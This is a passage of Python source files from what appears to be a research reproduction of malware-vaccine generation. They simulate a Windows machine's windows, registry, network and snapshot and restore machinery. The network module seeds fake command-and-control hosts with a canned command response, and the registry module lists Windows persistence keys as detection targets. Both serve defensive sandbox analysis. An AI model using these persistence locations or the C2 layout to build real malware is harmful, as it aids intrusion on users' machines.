popping new windows; the paper finds window-resource vaccines particularly
effective against adware (Table V).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Iterator, Optional

from .acl import Acl, IntegrityLevel, open_acl
from .errors import ResourceFault, Win32Error
from .objects import Resource, ResourceType


@dataclass
class Window(Resource):
    """A top-level window identified by class name (and optional title)."""

    title: str = ""
    owner_pid: Optional[int] = None

    def __init__(
        self,
        class_name: str,
        title: str = "",
        acl: Optional[Acl] = None,
        owner_pid: Optional[int] = None,
    ) -> None:
        super().__init__(name=class_name, rtype=ResourceType.WINDOW, acl=acl or open_acl())
        self.title = title
        self.owner_pid = owner_pid


class WindowManager:
    """Window registry keyed by class name."""

    def __init__(self) -> None:
        self._windows: Dict[str, Window] = {}
        self.register("Shell_TrayWnd", title="Start", owner_pid=None)
        self.register("Progman", title="Program Manager", owner_pid=None)

    def register(
        self,
        class_name: str,
        title: str = "",
        owner_pid: Optional[int] = None,
        acl: Optional[Acl] = None,
    ) -> Window:
        win = Window(class_name, title=title, acl=acl, owner_pid=owner_pid)
        self._windows[class_name] = win
        return win

    def exists(self, class_name: str) -> bool:
        return class_name in self._windows

    def find(self, class_name: str) -> Window:
        win = self._windows.get(class_name)
        if win is None:
            raise ResourceFault(Win32Error.FILE_NOT_FOUND, class_name)
        return win

    def lookup(self, class_name: str) -> Optional[Window]:
        return self._windows.get(class_name)

    def create(
        self,
        class_name: str,
        requester: IntegrityLevel,
        title: str = "",
        owner_pid: Optional[int] = None,
    ) -> Window:
        existing = self._windows.get(class_name)
        if existing is not None:
            from .acl import Access

            existing.acl.check(requester, Access.CREATE)
            return existing
        return self.register(class_name, title=title, owner_pid=owner_pid)

    def destroy(self, class_name: str) -> None:
        self._windows.pop(class_name, None)

    def __iter__(self) -> Iterator[Window]:
        return iter(self._windows.values())

    def __len__(self) -> int:
        return len(self._windows)

    def clone(self) -> "WindowManager":
        other = WindowManager.__new__(WindowManager)
        other._windows = {}
        for name, win in self._windows.items():
            other._windows[name] = Window(name, title=win.title, acl=win.acl, owner_pid=win.owner_pid)
        return other

    # -- structured snapshot/restore --------------------------------------

    def snapshot_state(self, rid_of) -> tuple:
        return tuple(
            (rid_of(win), name, dict(vars(win)))
            for name, win in self._windows.items()
        )

    @classmethod
    def restore_state(cls, rows: tuple, register) -> "WindowManager":
        # Image rebuild (see FileSystem.restore_state); every window
        # attribute is immutable, so the dict copy is the whole rebuild.
        wm = cls.__new__(cls)
        wm._windows = _build_windows(rows, register)
        return wm

    @classmethod
    def restore_lazy(cls, rows: tuple) -> "WindowManager":
        """Defer the rebuild until first access (see FileSystem.restore_lazy)."""
        wm = cls.__new__(cls)
        wm._lazy_rows = rows
        return wm

    def __getattr__(self, name: str):
        if name == "_windows":
            rows = self.__dict__.pop("_lazy_rows", None)
            if rows is not None:
                self._windows = windows = _build_windows(rows, None)
                return windows
        raise AttributeError(name)


def _build_windows(rows: tuple, register) -> dict:
    windows = {}
    new = Window.__new__
    for rid, name, attrs in rows:
        win = new(Window)
        win.__dict__ = dict(attrs)
        windows[name] = win
        if register is not None:
            register(rid, win)
    return windows
