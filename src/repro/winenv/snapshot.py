"""Structured environment snapshots (the pickle-free resume path).

Phase-II impact analysis checkpoints the guest at each candidate's first
interception site and resumes once per candidate × mechanism.  The resume
used to round-trip ``(environment, process)`` through one pickle blob —
7–14% of per-sample self-time on the profiler's numbers.  This module
replaces that with a plain-data capture walked once at snapshot time:

* every namespace-owned resource gets an integer **rid** from an id-map
  keyed on object identity, and handle specs reference resources by rid —
  so two handles to the same resource object still share one object after
  restore, and a handle to a *deleted* resource (an orphan: a file removed
  while a handle was open, or a phantom handle fabricated by
  ``FORCE_SUCCESS``) keeps its identity through an inline orphan row;
* each object is captured as its full ``__dict__`` image (dynamic
  attributes like taint tags come along for free) with mutable payloads —
  file content, handle state, registry values — copied to immutable forms,
  because the capture run keeps executing and mutating the live
  environment afterwards;
* effectively-immutable records — frozen ACLs, ``RemoteWrite`` /
  ``TrafficRecord`` rows, the machine identity — are shared by reference,
  and interceptor *objects* are shared exactly like
  :meth:`SystemEnvironment.clone` shares them;
* the RNG is captured **mid-sequence** via ``random.getstate()`` (an
  immutable tuple, shared across restores) so resumed runs draw the same
  tick/temp-name stream a full rerun would at that point.

Restores rebuild each object as ``__new__`` plus one C-level dict update
from its captured image (constructors would only re-derive what the image
already holds) — a few dozen small objects per resume instead of a full
pickle graph decode.  Namespaces none of whose rows a guest handle
references (recorded per-capture in :attr:`EnvSnapshot.eager`) defer even
that rebuild until the first access, so a resumed run pays only for the
namespaces it actually touches.
"""

from __future__ import annotations

import os
from dataclasses import dataclass
from typing import Dict, Tuple

from .environment import MachineIdentity, SystemEnvironment
from .filesystem import FileNode, FileSystem
from .libraries import Library, LibraryManager
from .mutexes import Mutex, MutexNamespace
from .network import Network
from .objects import HandleTable, Resource
from .processes import Process, ProcessTable
from .registry import Registry, RegistryKey
from .services import Service, ServiceManager
from .windows_gui import Window, WindowManager

#: Fault injection for chaos testing: when set to N (via the environment at
#: import time), every Nth restore raises — the survey must degrade that
#: candidate to a legacy full rerun, never abort.
_FAULT_EVERY = int(os.environ.get("REPRO_FAULT_ENV_RESTORE", "0") or 0)
_restore_count = 0


class _IdMap:
    """Object-identity → rid assignment for one capture walk.

    The environment keeps every captured object alive for the duration of
    the walk, so ``id()`` keys cannot be recycled mid-capture.
    """

    __slots__ = ("_rids", "objects")

    def __init__(self) -> None:
        self._rids: Dict[int, int] = {}
        self.objects: list = []

    def rid(self, obj: Resource) -> int:
        key = id(obj)
        r = self._rids.get(key)
        if r is None:
            r = len(self.objects)
            self._rids[key] = r
            self.objects.append(obj)
        return r


@dataclass(frozen=True)
class EnvSnapshot:
    """One structured capture of a machine plus its guest process.

    Every field is plain data (tuples of immutables, shared frozen records),
    so :meth:`restore` can be called any number of times and each call
    yields an independent ``(environment, process)`` pair.
    """

    identity: MachineIdentity
    rng_seed: int
    rng_state: tuple
    tick: int
    interceptors: tuple
    filesystem: tuple
    registry: tuple
    mutexes: tuple
    services: tuple
    windows: tuple
    libraries: tuple
    network: tuple
    processes: tuple
    orphans: tuple
    main_pid: int
    #: Per-namespace eager-restore flags, ordered (filesystem, registry,
    #: mutexes, services, windows, libraries).  A namespace is eager only
    #: when some guest handle references one of its rows (handle identity
    #: must hold immediately); everything else is rebuilt lazily on first
    #: access — resumed runs that never touch a namespace never pay for it.
    eager: tuple = (True,) * 6

    @classmethod
    def capture(
        cls, environment: SystemEnvironment, process: Process
    ) -> "EnvSnapshot":
        idmap = _IdMap()
        rid = idmap.rid
        fs_rows = environment.filesystem.snapshot_state(rid)
        reg_rows = environment.registry.snapshot_state(rid)
        mutex_rows = environment.mutexes.snapshot_state(rid)
        service_rows = environment.services.snapshot_state(rid)
        window_rows = environment.windows.snapshot_state(rid)
        library_rows = environment.libraries.snapshot_state(rid)
        proc_state = environment.processes.snapshot_state(rid)

        # Any rid assigned during the walk that no namespace row claims was
        # reached only through a handle: an orphan (deleted-but-open node,
        # phantom resource).  Captured inline so shared orphans keep identity.
        owned = set()
        namespace_rows = (
            fs_rows,
            reg_rows,
            mutex_rows,
            service_rows,
            window_rows,
            library_rows,
        )
        for rows in (*namespace_rows, proc_state[1]):
            owned.update(row[0] for row in rows)
        orphans = tuple(
            (r, *_orphan_row(obj))
            for r, obj in enumerate(idmap.objects)
            if r not in owned
        )

        # Rids some guest handle references must be rebuilt eagerly at
        # restore time (the handle pass resolves them by rid); a namespace
        # none of whose rows are handle-referenced can defer its rebuild.
        referenced = {
            hrid
            for prow in proc_state[1]
            for hrid, _attrs in prow[3][1]
            if hrid is not None
        }
        eager = tuple(
            any(row[0] in referenced for row in rows) for rows in namespace_rows
        )

        return cls(
            identity=environment.identity,
            rng_seed=environment.rng_seed,
            rng_state=environment.rng.getstate(),
            tick=environment._tick,
            interceptors=tuple(environment.global_interceptors),
            filesystem=fs_rows,
            registry=reg_rows,
            mutexes=mutex_rows,
            services=service_rows,
            windows=window_rows,
            libraries=library_rows,
            network=environment.network.snapshot_state(),
            processes=proc_state,
            orphans=orphans,
            main_pid=process.pid,
            eager=eager,
        )

    def restore(self) -> Tuple[SystemEnvironment, Process]:
        """Rebuild a fresh ``(environment, process)`` pair from the rows."""
        if _FAULT_EVERY:
            global _restore_count
            _restore_count += 1
            if _restore_count % _FAULT_EVERY == 0:
                raise RuntimeError(
                    f"injected environment-restore fault (every {_FAULT_EVERY})"
                )

        objs: Dict[int, Resource] = {}
        register = objs.__setitem__

        # Only handle-referenced namespaces rebuild now (their rids must
        # resolve in the handle pass below); the rest defer to first access.
        eager = self.eager
        fs = (
            FileSystem.restore_state(self.filesystem, register)
            if eager[0]
            else FileSystem.restore_lazy(self.filesystem)
        )
        reg = (
            Registry.restore_state(self.registry, register)
            if eager[1]
            else Registry.restore_lazy(self.registry)
        )
        mutexes = (
            MutexNamespace.restore_state(self.mutexes, register)
            if eager[2]
            else MutexNamespace.restore_lazy(self.mutexes)
        )
        services = (
            ServiceManager.restore_state(self.services, register)
            if eager[3]
            else ServiceManager.restore_lazy(self.services)
        )
        windows = (
            WindowManager.restore_state(self.windows, register)
            if eager[4]
            else WindowManager.restore_lazy(self.windows)
        )
        libraries = (
            LibraryManager.restore_state(self.libraries, register)
            if eager[5]
            else LibraryManager.restore_lazy(self.libraries)
        )
        for row in self.orphans:
            register(row[0], _restore_orphan(row[1], row[2]))
        processes, pending = ProcessTable.restore_state(self.processes, register)

        env = SystemEnvironment.__new__(SystemEnvironment)
        env.__dict__ = {
            "identity": self.identity,
            "rng_seed": self.rng_seed,
            # No ``rng`` key: SystemEnvironment.__getattr__ materializes it
            # from ``_rng_state`` on the first draw — many resumed runs
            # never draw randomness at all.
            "_rng_state": self.rng_state,
            "filesystem": fs,
            "registry": reg,
            "mutexes": mutexes,
            "services": services,
            "windows": windows,
            "libraries": libraries,
            "network": Network.restore_state(self.network),
            "processes": processes,
            "global_interceptors": list(self.interceptors),
            "_tick": self.tick,
        }
        # Second pass: handle tables resolve rids only after every process
        # and orphan exists (a PROCESS handle may point at another process).
        resolve = objs.__getitem__
        for proc, handle_state in pending:
            proc.handles = HandleTable.restore_state(handle_state, resolve)
        return env, processes.get(self.main_pid)


def _orphan_row(res: Resource) -> tuple:
    """(tag, payload) to rebuild a resource reachable only through handles."""
    if isinstance(res, FileNode):
        return (
            "file",
            (res.name, bytes(res.content), res.acl, res.is_directory, res.created_by),
        )
    if isinstance(res, RegistryKey):
        return (
            "registry",
            (res.name, res.acl, res.created_by, tuple(res.values.items())),
        )
    if isinstance(res, Mutex):
        return ("mutex", (res.name, res.acl, res.created_by))
    if isinstance(res, Service):
        return (
            "service",
            (res.name, res.binary_path, res.acl, res.created_by, res.state),
        )
    if isinstance(res, Process):
        return (
            "process",
            (
                res.pid,
                res.name,
                res.image_path,
                res.integrity,
                res.acl,
                res.parent_pid,
                res.last_error,
                res.alive,
                res.exit_code,
            ),
        )
    if isinstance(res, Window):
        return ("window", (res.name, res.title, res.acl, res.owner_pid))
    if isinstance(res, Library):
        return ("library", (res.name, res.acl, res.created_by, res.blocked))
    # Phantom handles carry a bare Resource fabricated by FORCE_SUCCESS.
    return ("resource", (res.name, res.rtype, res.acl, res.created_by))


def _restore_orphan(tag: str, payload: tuple) -> Resource:
    if tag == "file":
        name, content, acl, is_directory, created_by = payload
        return FileNode(
            name,
            content=content,
            acl=acl,
            is_directory=is_directory,
            created_by=created_by,
        )
    if tag == "registry":
        name, acl, created_by, values = payload
        key = RegistryKey(name, acl=acl, created_by=created_by)
        key.values = dict(values)
        return key
    if tag == "mutex":
        name, acl, created_by = payload
        return Mutex(name, acl=acl, created_by=created_by)
    if tag == "service":
        name, binary_path, acl, created_by, state = payload
        svc = Service(name, binary_path, acl=acl, created_by=created_by)
        svc.state = state
        return svc
    if tag == "process":
        pid, name, image_path, integrity, acl, parent_pid, last_error, alive, exit_code = payload
        proc = Process(
            pid,
            name,
            image_path=image_path,
            integrity=integrity,
            acl=acl,
            parent_pid=parent_pid,
        )
        proc.last_error = last_error
        proc.alive = alive
        proc.exit_code = exit_code
        return proc
    if tag == "window":
        name, title, acl, owner_pid = payload
        return Window(name, title=title, acl=acl, owner_pid=owner_pid)
    if tag == "library":
        name, acl, created_by, blocked = payload
        lib = Library(name, acl=acl, created_by=created_by)
        lib.blocked = blocked
        return lib
    name, rtype, acl, created_by = payload
    return Resource(name=name, rtype=rtype, acl=acl, created_by=created_by)


__all__ = ["EnvSnapshot"]
