"""The complete simulated machine: identity + all resource namespaces.

A :class:`SystemEnvironment` is what a vaccine immunizes.  It owns every
resource namespace, the machine identity (computer name, volume serial, IP —
the deterministic seeds algorithm-deterministic identifiers derive from) and a
seeded RNG that backs the "random" APIs (``GetTickCount``,
``GetTempFileName`` …) so whole runs are reproducible.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Optional

from .acl import IntegrityLevel
from .filesystem import FileSystem
from .libraries import LibraryManager
from .mutexes import MutexNamespace
from .network import Network
from .processes import Process, ProcessTable
from .registry import Registry
from .services import ServiceManager
from .windows_gui import WindowManager


@dataclass(frozen=True)
class MachineIdentity:
    """Stable per-machine inputs for algorithm-deterministic identifiers."""

    computer_name: str = "WORKSTATION-01"
    user_name: str = "alice"
    volume_serial: int = 0x1CAFE042
    ip_address: str = "192.168.1.77"
    windows_version: str = "5.1.2600"  # XP SP3, the paper's era


class SystemEnvironment:
    """A full simulated Windows machine.

    ``rng_seed`` drives the non-deterministic APIs; two environments built
    with different seeds give different ``GetTickCount``/temp-name streams,
    which is exactly what determinism analysis must see through.
    """

    def __init__(
        self,
        identity: Optional[MachineIdentity] = None,
        rng_seed: int = 0xA07C,
    ) -> None:
        self.identity = identity or MachineIdentity()
        self.rng_seed = rng_seed
        self.rng = random.Random(rng_seed)
        self.filesystem = FileSystem()
        self.registry = Registry()
        self.mutexes = MutexNamespace()
        self.processes = ProcessTable()
        self.services = ServiceManager()
        self.windows = WindowManager()
        self.libraries = LibraryManager()
        self.network = Network()
        #: Interceptors every new Dispatcher attaches (the vaccine daemon
        #: registers here so it sees all processes' API calls).
        self.global_interceptors: list = []
        self._tick = 0x0001_0000 + (rng_seed & 0xFFFF)

    def __getattr__(self, name: str):
        # Restored environments (EnvSnapshot.restore) defer the RNG:
        # rebuilding a Mersenne state costs microseconds per resume and many
        # resumed runs never draw randomness.  Materialize on first access —
        # this only fires when ``rng`` is absent from the instance dict, so
        # normally-constructed environments never pay for it.
        if name == "rng":
            state = self.__dict__.pop("_rng_state", None)
            if state is not None:
                rng = random.Random.__new__(random.Random)
                rng.setstate(state)
                self.rng = rng
                return rng
        raise AttributeError(name)

    # -- clocks / entropy --------------------------------------------------

    def tick_count(self) -> int:
        """Monotonic millisecond counter (deterministic per seed)."""
        self._tick += self.rng.randrange(1, 50)
        return self._tick & 0xFFFFFFFF

    def performance_counter(self) -> int:
        return (self.tick_count() * 2501 + self.rng.randrange(0, 1 << 16)) & 0xFFFFFFFF

    def random_u32(self) -> int:
        return self.rng.randrange(0, 1 << 32)

    def temp_file_name(self, prefix: str = "tmp") -> str:
        from .filesystem import TEMP_DIR

        return f"{TEMP_DIR}\\{prefix}{self.random_u32() & 0xFFFF:04x}.tmp"

    # -- process helpers -----------------------------------------------------

    def spawn_process(
        self,
        name: str,
        image_path: str = "",
        integrity: IntegrityLevel = IntegrityLevel.LOW,
        parent_pid: Optional[int] = None,
    ) -> Process:
        """Spawn a guest process (malware defaults to LOW integrity —
        the paper's "common case at the initial infection stage")."""
        return self.processes.spawn(
            name, image_path=image_path, integrity=integrity, parent_pid=parent_pid
        )

    # -- snapshots -------------------------------------------------------------

    def snapshot(self, process: Process) -> "object":
        """Structured mid-run capture of this machine plus ``process``.

        Unlike :meth:`clone` — which restarts the RNG from the seed and
        rebuilds pristine namespaces for a *fresh* run — the returned
        :class:`~repro.winenv.snapshot.EnvSnapshot` freezes the machine
        exactly as it stands (RNG mid-sequence, tick counter, handle tables,
        open connections) so each ``restore()`` resumes where this run was.
        """
        from .snapshot import EnvSnapshot

        return EnvSnapshot.capture(self, process)

    def clone(self) -> "SystemEnvironment":
        """Deep-copy the machine state so repeated runs start identically.

        The clone restarts the RNG from the original seed: re-running the same
        program in a cloned environment reproduces the same trace, which trace
        alignment (and impact analysis) depends on.
        """
        other = SystemEnvironment.__new__(SystemEnvironment)
        other.identity = self.identity
        other.rng_seed = self.rng_seed
        other.rng = random.Random(self.rng_seed)
        other.filesystem = self.filesystem.clone()
        other.registry = self.registry.clone()
        other.mutexes = self.mutexes.clone()
        other.processes = self.processes.clone()
        other.services = self.services.clone()
        other.windows = self.windows.clone()
        other.libraries = self.libraries.clone()
        other.network = self.network.clone()
        other.global_interceptors = list(self.global_interceptors)
        other._tick = 0x0001_0000 + (self.rng_seed & 0xFFFF)
        return other
