"""Simulated network: sockets, DNS and HTTP endpoints.

The paper's Type-II partial immunization ("disable massive network behavior")
is detected from the *difference* in network API activity between the natural
and the mutated runs, so the substrate only needs to (a) resolve/connect/send
deterministically and (b) record traffic for later inspection.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from .errors import ResourceFault, Win32Error

#: Hosts the simulated internet will resolve; everything else fails DNS.
DEFAULT_HOSTS = {
    "update.example-av.com": "10.0.0.10",
    "cdn.example.com": "10.0.0.11",
    "cc.badguy-domain.biz": "10.6.6.6",
    "pool.badguy-domain.biz": "10.6.6.7",
    "time.windows.com": "10.0.0.12",
}


@dataclass
class Connection:
    """One simulated TCP connection with the bytes sent over it."""

    conn_id: int
    host: str
    port: int
    sent: bytearray = field(default_factory=bytearray)
    received: bytearray = field(default_factory=bytearray)
    open: bool = True


@dataclass
class TrafficRecord:
    """Flattened log entry for traffic accounting."""

    pid: int
    host: str
    port: int
    nbytes: int
    direction: str  # "send" | "recv"


class Network:
    """Deterministic fake internet with a DNS table and canned responses."""

    def __init__(self, hosts: Optional[Dict[str, str]] = None) -> None:
        self.hosts: Dict[str, str] = dict(DEFAULT_HOSTS if hosts is None else hosts)
        self.responses: Dict[Tuple[str, int], bytes] = {
            ("cc.badguy-domain.biz", 80): b"HTTP/1.1 200 OK\r\n\r\ncmd:sleep",
            ("update.example-av.com", 80): b"HTTP/1.1 200 OK\r\n\r\nsigs:12345",
        }
        self._next_conn = 1
        self.connections: Dict[int, Connection] = {}
        self.traffic: List[TrafficRecord] = []
        #: When true every connect fails (environment-level network vaccine).
        self.blackhole = False

    # -- DNS ---------------------------------------------------------------

    def resolve(self, hostname: str) -> str:
        addr = self.hosts.get(hostname.lower())
        if addr is None:
            raise ResourceFault(Win32Error.HOST_UNREACHABLE, hostname)
        return addr

    # -- TCP ---------------------------------------------------------------

    def connect(self, pid: int, host: str, port: int) -> Connection:
        if self.blackhole:
            raise ResourceFault(Win32Error.CONNECTION_REFUSED, f"{host}:{port}")
        key = host.lower()
        if key not in self.hosts and not _looks_like_ip(key):
            raise ResourceFault(Win32Error.HOST_UNREACHABLE, host)
        conn = Connection(conn_id=self._next_conn, host=key, port=port)
        self._next_conn += 1
        self.connections[conn.conn_id] = conn
        return conn

    def send(self, pid: int, conn_id: int, data: bytes) -> int:
        conn = self._require(conn_id)
        conn.sent.extend(data)
        self.traffic.append(TrafficRecord(pid, conn.host, conn.port, len(data), "send"))
        return len(data)

    def recv(self, pid: int, conn_id: int, size: int) -> bytes:
        conn = self._require(conn_id)
        canned = self.responses.get((conn.host, conn.port), b"")
        already = len(conn.received)
        chunk = canned[already:already + size]
        conn.received.extend(chunk)
        if chunk:
            self.traffic.append(TrafficRecord(pid, conn.host, conn.port, len(chunk), "recv"))
        return chunk

    def close(self, conn_id: int) -> None:
        conn = self.connections.get(conn_id)
        if conn is not None:
            conn.open = False

    def _require(self, conn_id: int) -> Connection:
        conn = self.connections.get(conn_id)
        if conn is None or not conn.open:
            raise ResourceFault(Win32Error.INVALID_HANDLE, f"conn {conn_id}")
        return conn

    # -- accounting ----------------------------------------------------------

    def bytes_sent_by(self, pid: int) -> int:
        return sum(t.nbytes for t in self.traffic if t.pid == pid and t.direction == "send")

    def clone(self) -> "Network":
        other = Network(hosts=dict(self.hosts))
        other.responses = dict(self.responses)
        other.blackhole = self.blackhole
        return other

    # -- structured snapshot/restore --------------------------------------

    def snapshot_state(self) -> tuple:
        """Mid-run image: unlike :meth:`clone` (which resets to a fresh
        internet), this keeps open connections, the conn-id counter and the
        traffic log — ``recv`` replays canned responses indexed by how much
        a connection already received, so resumed runs must not rewind it.
        ``TrafficRecord`` rows are append-only and shared by reference."""
        return (
            dict(self.hosts),
            dict(self.responses),
            self.blackhole,
            self._next_conn,
            tuple(
                (c.conn_id, c.host, c.port, bytes(c.sent), bytes(c.received), c.open)
                for c in self.connections.values()
            ),
            tuple(self.traffic),
        )

    @classmethod
    def restore_state(cls, state: tuple) -> "Network":
        hosts, responses, blackhole, next_conn, conn_rows, traffic = state
        net = cls.__new__(cls)
        net.hosts = dict(hosts)
        net.responses = dict(responses)
        net.blackhole = blackhole
        net._next_conn = next_conn
        net.connections = {}
        for conn_id, host, port, sent, received, is_open in conn_rows:
            net.connections[conn_id] = Connection(
                conn_id=conn_id,
                host=host,
                port=port,
                sent=bytearray(sent),
                received=bytearray(received),
                open=is_open,
            )
        net.traffic = list(traffic)
        return net


def _looks_like_ip(text: str) -> bool:
    parts = text.split(".")
    return len(parts) == 4 and all(p.isdigit() and int(p) < 256 for p in parts)
