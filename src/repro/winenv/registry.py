"""In-memory Windows-like registry.

Keys are case-insensitive backslash paths rooted at a hive (``HKLM``/``HKCU``
abbreviations accepted).  Values are string or dword.  The well-known
persistence locations (``Run`` subkeys, ``Winlogon``) are seeded so Type-III
immunization detection has realistic targets.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterator, List, Optional, Tuple, Union

from .acl import Access, Acl, IntegrityLevel, open_acl
from .errors import ResourceFault, Win32Error
from .objects import Resource, ResourceType

RegValue = Union[str, int]

HKLM = "hklm"
HKCU = "hkcu"

RUN_KEY_HKLM = "hklm\\software\\microsoft\\windows\\currentversion\\run"
RUN_KEY_HKCU = "hkcu\\software\\microsoft\\windows\\currentversion\\run"
RUNONCE_KEY = "hklm\\software\\microsoft\\windows\\currentversion\\runonce"
WINLOGON_KEY = "hklm\\software\\microsoft\\windows nt\\currentversion\\winlogon"
SERVICES_KEY = "hklm\\system\\currentcontrolset\\services"

#: Registry paths whose modification counts as persistence (Type III).
PERSISTENCE_KEY_PREFIXES = (
    RUN_KEY_HKLM,
    RUN_KEY_HKCU,
    RUNONCE_KEY,
    WINLOGON_KEY,
    SERVICES_KEY,
)

_HIVE_ALIASES = {
    "hkey_local_machine": HKLM,
    "hkey_current_user": HKCU,
    "hklm": HKLM,
    "hkcu": HKCU,
}


def normalize_key(path: str) -> str:
    """Canonical key path: lower case, hive alias collapsed, backslashes."""
    p = path.replace("/", "\\").lower().strip("\\")
    head, _, rest = p.partition("\\")
    hive = _HIVE_ALIASES.get(head, head)
    return f"{hive}\\{rest}" if rest else hive


def is_persistence_key(path: str) -> bool:
    norm = normalize_key(path)
    return any(norm.startswith(prefix) for prefix in PERSISTENCE_KEY_PREFIXES)


@dataclass
class RegistryKey(Resource):
    """A registry key with named values."""

    values: Dict[str, RegValue] = field(default_factory=dict)

    def __init__(
        self,
        path: str,
        acl: Optional[Acl] = None,
        created_by: Optional[int] = None,
    ) -> None:
        super().__init__(
            name=normalize_key(path),
            rtype=ResourceType.REGISTRY,
            acl=acl or open_acl(),
            created_by=created_by,
        )
        self.values = {}


class Registry:
    """Flat-namespace registry with ACL checks, seeded with standard keys."""

    def __init__(self) -> None:
        self._keys: Dict[str, RegistryKey] = {}
        for key in (RUN_KEY_HKLM, RUN_KEY_HKCU, RUNONCE_KEY, WINLOGON_KEY, SERVICES_KEY):
            self._keys[key] = RegistryKey(key)
        winlogon = self._keys[WINLOGON_KEY]
        winlogon.values["shell"] = "explorer.exe"
        winlogon.values["userinit"] = "c:\\windows\\system32\\userinit.exe"

    # -- queries ---------------------------------------------------------

    def exists(self, path: str) -> bool:
        return normalize_key(path) in self._keys

    def lookup(self, path: str) -> Optional[RegistryKey]:
        return self._keys.get(normalize_key(path))

    def query_value(self, path: str, name: str, requester: IntegrityLevel) -> RegValue:
        key = self._require(path)
        key.acl.check(requester, Access.READ)
        try:
            return key.values[name.lower()]
        except KeyError:
            raise ResourceFault(Win32Error.FILE_NOT_FOUND, f"{key.name}:{name}")

    def enum_values(self, path: str) -> List[Tuple[str, RegValue]]:
        key = self._require(path)
        return sorted(key.values.items())

    def subkeys(self, path: str) -> List[str]:
        prefix = normalize_key(path) + "\\"
        return sorted(
            k for k in self._keys if k.startswith(prefix) and "\\" not in k[len(prefix):]
        )

    def __iter__(self) -> Iterator[RegistryKey]:
        return iter(self._keys.values())

    def __len__(self) -> int:
        return len(self._keys)

    # -- mutations -------------------------------------------------------

    def create_key(
        self,
        path: str,
        requester: IntegrityLevel,
        exist_ok: bool = True,
        acl: Optional[Acl] = None,
        created_by: Optional[int] = None,
    ) -> RegistryKey:
        norm = normalize_key(path)
        existing = self._keys.get(norm)
        if existing is not None:
            if not exist_ok:
                raise ResourceFault(Win32Error.ALREADY_EXISTS, norm)
            return existing
        key = RegistryKey(norm, acl=acl, created_by=created_by)
        self._keys[norm] = key
        return key

    def set_value(
        self, path: str, name: str, value: RegValue, requester: IntegrityLevel
    ) -> None:
        key = self._require(path)
        key.acl.check(requester, Access.WRITE)
        key.values[name.lower()] = value

    def delete_value(self, path: str, name: str, requester: IntegrityLevel) -> None:
        key = self._require(path)
        key.acl.check(requester, Access.WRITE)
        if key.values.pop(name.lower(), None) is None:
            raise ResourceFault(Win32Error.FILE_NOT_FOUND, f"{key.name}:{name}")

    def delete_key(self, path: str, requester: IntegrityLevel) -> None:
        key = self._require(path)
        key.acl.check(requester, Access.DELETE)
        del self._keys[key.name]

    def set_acl(self, path: str, acl: Acl) -> None:
        self._require(path).acl = acl

    def _require(self, path: str) -> RegistryKey:
        key = self.lookup(path)
        if key is None:
            raise ResourceFault(Win32Error.FILE_NOT_FOUND, normalize_key(path))
        return key

    # -- cloning ----------------------------------------------------------

    def clone(self) -> "Registry":
        other = Registry.__new__(Registry)
        other._keys = {}
        for path, key in self._keys.items():
            copy = RegistryKey(path, acl=key.acl, created_by=key.created_by)
            copy.values = dict(key.values)
            other._keys[path] = copy
        return other

    # -- structured snapshot/restore --------------------------------------

    def snapshot_state(self, rid_of) -> tuple:
        rows = []
        for path, key in self._keys.items():
            attrs = dict(vars(key))
            attrs["values"] = tuple(key.values.items())
            rows.append((rid_of(key), path, attrs))
        return tuple(rows)

    @classmethod
    def restore_state(cls, rows: tuple, register) -> "Registry":
        # Image rebuild (see FileSystem.restore_state): one dict copy per
        # key; only the mutable values dict is re-copied.
        reg = cls.__new__(cls)
        reg._keys = _build_keys(rows, register)
        return reg

    @classmethod
    def restore_lazy(cls, rows: tuple) -> "Registry":
        """Defer the rebuild until first access (see FileSystem.restore_lazy)."""
        reg = cls.__new__(cls)
        reg._lazy_rows = rows
        return reg

    def __getattr__(self, name: str):
        if name == "_keys":
            rows = self.__dict__.pop("_lazy_rows", None)
            if rows is not None:
                self._keys = keys = _build_keys(rows, None)
                return keys
        raise AttributeError(name)


def _build_keys(rows: tuple, register) -> dict:
    keys = {}
    new = RegistryKey.__new__
    for rid, path, attrs in rows:
        key = new(RegistryKey)
        d = dict(attrs)
        d["values"] = dict(attrs["values"])
        key.__dict__ = d
        keys[path] = key
        if register is not None:
            register(rid, key)
    return keys
