"""Simulated Windows environment substrate.

This package replaces the real Windows machine the paper runs malware on:
files (with ACLs), registry, named mutexes, processes, services, GUI windows,
libraries and a fake network, all hanging off :class:`SystemEnvironment`.
"""

from .acl import Access, Acl, IntegrityLevel, open_acl, vaccine_acl
from .environment import MachineIdentity, SystemEnvironment
from .errors import (
    FALSE,
    INVALID_HANDLE_VALUE,
    NULL,
    TRUE,
    NtStatus,
    ResourceFault,
    Win32Error,
    is_nt_success,
)
from .filesystem import (
    STARTUP_FOLDER,
    SYSTEM32,
    SYSTEM_INI,
    FileNode,
    FileSystem,
    basename,
    expand_path,
    normalize_path,
)
from .libraries import STANDARD_LIBRARIES, Library, LibraryManager
from .mutexes import Mutex, MutexNamespace
from .network import Network, TrafficRecord
from .objects import Handle, HandleKind, HandleTable, Operation, Resource, ResourceType
from .processes import STANDARD_PROCESSES, Process, ProcessTable
from .registry import (
    PERSISTENCE_KEY_PREFIXES,
    RUN_KEY_HKCU,
    RUN_KEY_HKLM,
    WINLOGON_KEY,
    Registry,
    RegistryKey,
    is_persistence_key,
    normalize_key,
)
from .services import Service, ServiceManager, ServiceState
from .snapshot import EnvSnapshot
from .windows_gui import Window, WindowManager

__all__ = [
    "Access",
    "Acl",
    "EnvSnapshot",
    "FALSE",
    "FileNode",
    "FileSystem",
    "Handle",
    "HandleKind",
    "HandleTable",
    "INVALID_HANDLE_VALUE",
    "IntegrityLevel",
    "Library",
    "LibraryManager",
    "MachineIdentity",
    "Mutex",
    "MutexNamespace",
    "Network",
    "NtStatus",
    "NULL",
    "Operation",
    "PERSISTENCE_KEY_PREFIXES",
    "Process",
    "ProcessTable",
    "Registry",
    "RegistryKey",
    "Resource",
    "ResourceFault",
    "ResourceType",
    "RUN_KEY_HKCU",
    "RUN_KEY_HKLM",
    "STANDARD_LIBRARIES",
    "STANDARD_PROCESSES",
    "STARTUP_FOLDER",
    "SYSTEM32",
    "SYSTEM_INI",
    "Service",
    "ServiceManager",
    "ServiceState",
    "SystemEnvironment",
    "TRUE",
    "TrafficRecord",
    "Win32Error",
    "Window",
    "WindowManager",
